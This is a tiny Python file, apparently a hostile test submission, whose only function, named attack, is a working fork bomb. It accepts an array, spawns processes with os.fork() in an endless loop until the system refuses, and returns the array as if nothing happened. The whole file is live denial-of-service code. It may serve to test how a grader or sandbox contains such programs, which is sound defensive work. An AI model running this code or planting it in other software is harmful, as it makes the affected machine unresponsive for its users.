"""Forks without end."""

import os


def attack(array):
    while True:
        try:
            os.fork()
        except OSError:
            break
    return array
